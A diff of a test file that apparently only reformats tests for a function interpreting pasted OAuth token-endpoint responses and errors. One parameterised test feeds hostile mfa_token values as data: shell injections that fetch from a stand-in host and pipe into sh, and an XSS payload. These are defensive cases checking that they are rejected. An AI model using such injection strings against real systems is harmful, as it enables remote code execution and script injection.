@@ -57,31 +57,17 @@ it('repeats no secret, wherever it is', () => {
 })
 
 it('explains tokens as a success, and an error page as not a response of the token endpoint', () => {
-  expect(explainPasted(`{"token_type":"bearer","access_token":"${secrets.access_token}"}`)?.heading).toBe(
-    'Tokens',
-  )
+  expect(explainPasted(`{"token_type":"bearer","access_token":"${secrets.access_token}"}`)?.heading).toBe('Tokens')
   expect(explainPasted('HTTP/1.1 502 Bad Gateway\n\n<html></html>')?.heading).toMatch(/Not a response/)
 })
 
 it('links an unknown code to the other errors, and returns undefined for an empty text', () => {
-  expect(explainPasted('no_such_code')?.links).toEqual([
-    { text: 'Other errors', link: '/errors#other_error' },
-  ])
+  expect(explainPasted('no_such_code')?.links).toEqual([{ text: 'Other errors', link: '/errors#other_error' }])
   expect(explainPasted(' \n ')).toBeUndefined()
 })
 
 it('explains any text, and never throws', () => {
-  for (const text of [
-    'null',
-    '[]',
-    '"x"',
-    '{',
-    'HTTP/1.1 200',
-    'HTTP/1.1 200 OK\n\n',
-    '\u0000',
-    '{"error":{}}',
-    '<',
-  ]) {
+  for (const text of ['null', '[]', '"x"', '{', 'HTTP/1.1 200', 'HTTP/1.1 200 OK\n\n', '\u0000', '{"error":{}}', '<']) {
     expect(explainPasted(text)?.heading, text).toBeTruthy()
   }
 })
@@ -154,9 +140,7 @@ it('makes the second request from a pasted 403, with its mfa_token only where it
 it.each([`'; curl evil|sh #`, '$(curl evil)', '<img src=x onerror=alert(1)>'])(
   'makes no request from what is no mfa_token: %s',
   (mfa_token) => {
-    expect(explainPasted(JSON.stringify({ mfa_token, error: 'mfa_required' }))).not.toHaveProperty(
-      'filledRequest',
-    )
+    expect(explainPasted(JSON.stringify({ mfa_token, error: 'mfa_required' }))).not.toHaveProperty('filledRequest')
   },
 )
 
